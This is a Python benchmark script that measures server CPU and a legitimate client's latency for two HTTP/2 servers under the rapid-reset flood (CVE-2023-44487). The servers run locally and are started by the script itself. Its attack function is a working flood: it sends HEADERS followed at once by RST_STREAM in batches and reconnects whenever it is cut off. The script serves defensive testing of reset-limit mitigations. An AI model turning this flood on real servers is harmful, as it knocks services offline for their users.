#!/usr/bin/python3
"""The HTTP/2 rapid-reset flood (CVE-2023-44487): server CPU and a good client's latency during it.

usage:
  loadtest/scripts/h2-rapid-reset.py [--servers mp,reference] [--seconds 10] [--warmup 5] [--attackers 2]
                                     [--port BASE] [--heap 1g] [--out FILE]

For each server (started in turn as idle-memory.py starts it, with HTTP/2 on: mpool as it comes,
stock Undertow with -Dreference.http2=true, i.e. UndertowOptions.ENABLE_HTTP2; then warmed up by
the good client alone for --warmup seconds), two phases of --seconds each, over h2c with prior
knowledge:
  quiet   one good client: one connection, GET /hello after GET /hello, each timed;
  flood   the same good client while --attackers processes flood: each opens a connection and
          sends, in batches of 100, HEADERS (GET /hello, END_STREAM) and at once RST_STREAM (CANCEL)
          on a new stream, and reconnects whenever the server closes it (mpool: GOAWAY
          ENHANCE_YOUR_CALM past 200 resets in 30 s; Undertow 2.3: its own reset limit).
Per phase: the server's CPU (its /proc ticks over the phase, as a share of one CPU), the good
client's requests and their latency (p50, p99, max), and for the flood what the attackers sent
(streams written and reset, connections the server closed); then the servers side by side, a
column each: CPU per second of the phase (ms of CPU), the good client's p50 and p99. A smoke run is --seconds 1 --warmup 1; the
figures are for a quiet machine with the server pinned apart from this script.
Frames are written by hand (no HPACK state: every header field is a literal without indexing or a
static-table index), so the attack is as cheap for this script as the protocol allows.
"""
import argparse
import importlib.util
import multiprocessing
import os
import socket
import statistics
import struct
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
_spec = importlib.util.spec_from_file_location("idle_memory", os.path.join(HERE, "idle-memory.py"))
im = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(im)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE = 0x0, 0x1, 0x3, 0x4, 0x7, 0x8
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8
# GET /hello, http, 127.0.0.1 (RFC 7541): :method GET (static 2) and :scheme http (static 6) indexed,
# :path (static 4) and :authority (static 1) as literals without indexing.
HELLO_BLOCK = bytes([0x82, 0x86, 0x04, 6]) + b"/hello" + bytes([0x01, 9]) + b"127.0.0.1"
BATCH = 100
TICKS_PER_SECOND = os.sysconf("SC_CLK_TCK")


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect(port, timeout=5.0):
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return s


def read_frame(s, pending):
    """The next frame (type, flags, stream, payload) from S, PENDING holding bytes read ahead; None at its end."""
    while True:
        if len(pending) >= 9:
            length = int.from_bytes(pending[0:3], "big")
            if len(pending) >= 9 + length:
                head, payload = bytes(pending[:9]), bytes(pending[9:9 + length])
                del pending[:9 + length]
                return head[3], head[4], int.from_bytes(head[5:9], "big") & 0x7fffffff, payload
        chunk = s.recv(65536)
        if not chunk:
            return None
        pending.extend(chunk)


# ---------------------------------------------------------------- the attacker (its own process)

def attack(port, until, counts):
    """Floods until the time UNTIL; COUNTS[0] += streams opened and reset, COUNTS[1] += connections closed."""
    streams = closed = 0
    while time.time() < until:
        try:
            s = connect(port)
            s.setblocking(False)
            stream = 1
            while time.time() < until and stream < 2 ** 31 - 2 * BATCH:
                batch = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, sid, HELLO_BLOCK)
                                 + frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
                                 for sid in range(stream, stream + 2 * BATCH, 2))
                view = memoryview(batch)
                while view and time.time() < until:
                    try:
                        view = view[s.send(view):]
                    except BlockingIOError:
                        drain(s)
                drain(s)
                stream += 2 * BATCH
                streams += BATCH
        except (ConnectionError, EOFError, OSError):
            closed += 1
        finally:
            try:
                s.close()
            except (OSError, UnboundLocalError):
                pass
    with counts.get_lock():
        counts[0] += streams
        counts[1] += closed


def drain(s):
    """Reads and drops what the server sent (answers, GOAWAY); raises EOFError once it closed."""
    while True:
        try:
            chunk = s.recv(65536)
        except BlockingIOError:
            return
        if not chunk:
            raise EOFError("closed by the server")


# ---------------------------------------------------------------- the good client

def good_client(port, seconds):
    """GET /hello one after another on one connection for SECONDS; the latencies in microseconds, and errors."""
    latencies, errors = [], 0
    s, pending, stream = connect(port), bytearray(), 1
    until = time.time() + seconds
    while time.time() < until:
        started = time.perf_counter()
        try:
            # A server the flood starves may never answer: the phase still ends on time (the
            # unanswered request counts as an error, not as a latency).
            s.settimeout(max(0.05, until - time.time()))
            s.sendall(frame(HEADERS, END_HEADERS | END_STREAM, stream, HELLO_BLOCK))
            while True:
                f = read_frame(s, pending)
                if f is None:
                    raise EOFError("closed")
                kind, flags, sid, payload = f
                if kind == SETTINGS and not flags & ACK:
                    s.sendall(frame(SETTINGS, ACK, 0))
                if kind == DATA and payload:
                    # Gives the connection's window back (each stream is new, with a whole window):
                    # without it the server stops after 65,535 bytes of answers.
                    s.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", len(payload))))
                if kind == GOAWAY:
                    raise EOFError("GOAWAY")
                if sid == stream and kind in (HEADERS, DATA) and flags & END_STREAM:
                    break
                if sid == stream and kind == RST_STREAM:
                    raise EOFError("reset")
            latencies.append((time.perf_counter() - started) * 1e6)
            stream += 2
        except (OSError, EOFError):
            errors += 1
            s.close()
            if time.time() >= until:
                return latencies, errors
            try:
                s, pending, stream = connect(port, max(0.05, until - time.time())), bytearray(), 1
            except OSError:
                return latencies, errors + 1
    s.close()
    return latencies, errors


# ---------------------------------------------------------------- one server

def cpu_ticks(pid):
    with open("/proc/%d/stat" % pid) as stat:
        fields = stat.read().rsplit(")", 1)[1].split()
    return int(fields[11]) + int(fields[12])  # utime, stime


def phase(server, seconds, attackers):
    counts = multiprocessing.Array("q", 2)
    until = time.time() + seconds
    floods = [multiprocessing.Process(target=attack, args=(server.port, until, counts)) for _ in range(attackers)]
    for p in floods:
        p.start()
    before, started = cpu_ticks(server.process.pid), time.time()
    latencies, errors = good_client(server.port, seconds)
    elapsed = time.time() - started
    after = cpu_ticks(server.process.pid)
    for p in floods:
        p.join()
    q = statistics.quantiles(latencies, n=100, method="inclusive") if len(latencies) >= 2 \
        else [latencies[0] if latencies else 0] * 99
    return {"cpu": (after - before) / TICKS_PER_SECOND / elapsed, "requests": len(latencies), "errors": errors,
            "p50": q[49], "p99": q[98], "max": max(latencies) if latencies else 0,
            "attack_streams": counts[0], "attack_closed": counts[1]}


def side_by_side(servers, names, results):
    """Per phase, each server's CPU per second of the phase and the good client's p50 and p99, in columns."""
    head = ["phase"]
    for what in ("server CPU per second", "good client p50", "good client p99"):
        head += ["%s: %s" % (what, names[name]) for name in servers]
    lines = ["| " + " | ".join(head) + " |", "|---" * len(head) + "|"]
    for label in ("quiet", "flood"):
        row = [label]
        row += ["%.0f ms" % (1000 * results[(name, label)]["cpu"]) for name in servers]
        row += ["%.0f µs" % results[(name, label)]["p50"] for name in servers]
        row += ["%.0f µs" % results[(name, label)]["p99"] for name in servers]
        lines.append("| " + " | ".join(row) + " |")
    return lines


def main(argv):
    parser = argparse.ArgumentParser(prog="h2-rapid-reset.py", description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--servers", default="mp,reference", help="default: %(default)s")
    parser.add_argument("--seconds", type=float, default=10, help="per phase (default: %(default)s)")
    parser.add_argument("--warmup", type=float, default=5,
                        help="seconds of the good client alone, unmeasured, before the phases (default: %(default)s)")
    parser.add_argument("--attackers", type=int, default=2, help="flooding processes (default: %(default)s)")
    parser.add_argument("--heap", default="1g", help="-Xms and -Xmx of the JVM servers (default: %(default)s)")
    parser.add_argument("--port", type=int, default=0, help="base port (default: a free one)")
    parser.add_argument("--java", default="java", help="default: %(default)s")
    parser.add_argument("--out", help="also write the Markdown table to this file")
    args = parser.parse_args(argv)
    if args.seconds <= 0 or args.attackers < 1:
        raise SystemExit("--seconds=%s --attackers=%d (expected: seconds above 0, at least one attacker)"
                         % (args.seconds, args.attackers))
    servers = args.servers.split(",")
    for name in servers:
        if name not in ("mp", "reference"):
            raise SystemExit("--servers=%s (expected: a comma-separated list of mp, reference)" % args.servers)
    args.java_option, args.nmt, args.io_threads = ["-Dreference.http2=true"], False, 1
    work = tempfile.mkdtemp(prefix="h2-rapid-reset-")
    names = {"mp": "mpool", "reference": "stock Undertow (ENABLE_HTTP2)"}
    lines = ["## HTTP/2 rapid reset", "", "`/usr/bin/python3 loadtest/scripts/h2-rapid-reset.py %s`" % " ".join(argv),
             "", "| server | phase | server CPU | good client requests | p50 | p99 | max | errors | attack streams"
                 " | attack connections closed |", "|---|---|---|---|---|---|---|---|---|---|"]
    results = {}
    for name in servers:
        server = im.start(name, args, args.port or im.free_port(), work)
        try:
            good_client(server.port, args.warmup)
            for label, attackers in (("quiet", 0), ("flood", args.attackers)):
                r = phase(server, args.seconds, attackers)
                results[(name, label)] = r
                line = "| %s | %s | %.0f%% | %d | %.0f µs | %.0f µs | %.0f µs | %d | %d | %d |" % (
                    names[name], label, 100 * r["cpu"], r["requests"], r["p50"], r["p99"], r["max"], r["errors"],
                    r["attack_streams"], r["attack_closed"])
                print(line, flush=True)
                lines.append(line)
        finally:
            server.stop()
    lines += [""] + side_by_side(servers, names, results)
    report = "\n".join(lines) + "\n"
    print("\n" + report, end="")
    if args.out:
        with open(args.out, "w") as out:
            out.write(report)


if __name__ == "__main__":
    main(sys.argv[1:])
